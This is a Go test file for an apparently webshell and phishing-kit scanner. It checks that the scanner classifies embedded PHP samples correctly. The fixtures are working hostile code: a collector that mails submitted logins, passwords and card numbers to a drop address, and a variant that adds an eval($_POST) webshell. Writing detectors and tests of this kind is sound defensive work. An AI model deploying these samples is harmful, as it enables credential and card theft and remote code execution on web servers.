package webshell

import (
	"os"
	"path/filepath"
	"regexp"
	"testing"

	"github.com/yingji/yingji/internal/attack"
	"github.com/yingji/yingji/internal/finding"
)

// TestKindOf checks that a file reported only by php.abuse rules is
// filed under its own kind, and one with any webshell detection as a
// webshell.
func TestKindOf(t *testing.T) {
	phish := []byte(`<?php
$ip = getenv("REMOTE_ADDR");
$message = "User: " . $_POST['user'] . "\nPassword: " . $_POST['password'] . "\nCard: " . $_POST['cardnumber'] . "\nIP: " . $ip . "\n";
mail("drop.box@gmail.com", "Bank login", $message);
header("Location: https://www.example-bank.com/login");
`)
	r := Scan("login.php", phish)
	if !r.Reported() {
		t.Fatalf("phishing collector not reported: %+v", r.Detections)
	}
	f := Finding(r, "/var/www/login.php")
	if f.Category != "NAPHISH" || f.Title != "Phishing kit's collector in a web site" || len(f.Attack) == 0 || f.Attack[0] != "T1608.005" {
		t.Errorf("phishing collector filed as %q %q %v", f.Category, f.Title, f.Attack)
	}
	shell := []byte(`<?php
$ip = getenv("REMOTE_ADDR");
mail("drop.box@gmail.com", "x", $_POST['password'] . $_POST['card'] . $ip);
header("Location: https://www.example-bank.com/");
eval($_POST['c']);
`)
	r = Scan("x.php", shell)
	if k := KindOf(r); k.Title != Title || k.Category != Category || len(k.Attack) != 1 || k.Attack[0] != Attack {
		t.Errorf("a webshell that also collects passwords filed as %+v", k)
	}
}

// TestAbuseKinds checks that every php.abuse rule of the PHP analysis has
// a kind, and that each kind names known techniques and categories.
func TestAbuseKinds(t *testing.T) {
	files, err := filepath.Glob("php/*.go")
	if err != nil || len(files) == 0 {
		t.Fatalf("PHP sources: %v", err)
	}
	re := regexp.MustCompile(`"(php\.abuse\.[a-z-]+)"`)
	rules := map[string]bool{}
	for _, p := range files {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range re.FindAllSubmatch(b, -1) {
			rules[string(m[1])] = true
		}
	}
	if len(rules) == 0 {
		t.Fatal("no php.abuse rules found in php/*.go")
	}
	for r := range rules {
		if _, ok := abuseKinds[r]; !ok {
			t.Errorf("rule %s has no kind in abuseKinds", r)
		}
	}
	for r, k := range abuseKinds {
		if !rules[r] {
			t.Errorf("abuseKinds names %s, which no PHP rule reports", r)
		}
		if k.Title == "" || k.TitleZh == "" {
			t.Errorf("%s: title missing", r)
		}
		if _, ok := finding.Categories[k.Category]; !ok {
			t.Errorf("%s: unknown category %q", r, k.Category)
		}
		for _, id := range k.Attack {
			if _, ok := attack.Lookup(id); !ok {
				t.Errorf("%s: unknown technique %s", r, id)
			}
		}
	}
}
